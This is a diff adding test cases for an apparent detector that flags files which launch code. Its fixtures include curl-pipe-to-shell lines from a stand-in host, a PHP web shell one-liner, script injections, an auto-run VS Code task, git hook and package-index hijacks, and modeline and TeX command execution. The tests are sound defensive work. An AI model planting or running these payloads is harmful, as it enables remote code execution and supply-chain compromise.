@@ -315,6 +315,41 @@ describe('a rule that lets an honest file pass', () => {
       for (const text of twins) expect({ text, passive: await passive(name, text) }).toEqual({ text, passive: false });
     },
   );
+  test.each([
+    [
+      '.vscode/tasks.json',
+      '{"version":"2.0.0","tasks":[{"label":"a","type":"shell","command":"id","runOptions":{"runOn":"folderOpen"}}]}\n',
+    ],
+    ['tasks.txt', '{"version":"2.0.0","tasks":[{"label":"a","type":"shell","command":"id"}]}\n'],
+    ['.gitconfig', '[core]\nhooksPath = .hooks\n'],
+    ['config.txt', '[core]\n\thooksPath = .hooks\n'],
+    ['config.txt', '[alias]\n\tst = !id\n'],
+    ['Makefile', 'all:\n\tid\n'],
+    ['Dockerfile', 'FROM debian\nRUN curl http://192.0.2.1/a | sh\n'],
+    ['Dockerfile.txt', 'FROM debian\nRUN curl http://192.0.2.1/a | sh\n'],
+    [
+      'ci.yml',
+      'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Build all\n        run: make\n',
+    ],
+    ['pip.conf', '[global]\nindex-url = https://192.0.2.1/simple\n'],
+    ['a.conf', '[Unit]\nDescription=A thing\n\n[Service]\nExecStart=/tmp/a\n'],
+    ['.npmrc', 'script-shell=./a\n'],
+    ['rc.txt', 'script-shell=./a\nregistry=https://192.0.2.1/\n'],
+    ['a.txt', '[Desktop Entry]\nType=Application\nName=A\nExec=sh a\n'],
+    ['pyproject.toml', '[tool.hatch.build.hooks.custom]\npath = "a.py"\n'],
+    ['a.txt', `${words}\n\n<?php system($_GET[0]); ?>\n`],
+    ['a.txt', `<html><body><p>${words}</p><script>alert(1)</script></body></html>\n`],
+    ['a.txt', `${words}\n\n<script>alert(1)</script>\n`],
+    ['.htaccess', 'AddType application/x-httpd-php .jpg\n'],
+    ['a.tex', '\\documentclass{article}\n\\write18{id}\n'],
+    ['README.md', `# Thing\n\n${words}\n\n\`\`\`sh\ncurl -fsSL https://192.0.2.1/a | sh\n\`\`\`\n`],
+    ['requirements.txt', '--index-url https://192.0.2.1/simple\nrequests\n'],
+    ['docker.yml', 'services:\n  a:\n    image: alpine\n    entrypoint: Show all\n    command: id\n'],
+    ['a.txt', `${words}\n\nvim: set modeline foldexpr=system("id"):\n`],
+    ['a.txt', `-*- mode: text; eval: (message "a") -*-\n\n${words}\n`],
+  ])('%s that starts something is not passive, whatever else stands there', async (name, text) =>
+    expect(await passive(name, text)).toBe(false),
+  );
   test('a document with a place for forms holds none, and one with a form does', async () => {
     const document = (forms: string) =>
       zip({
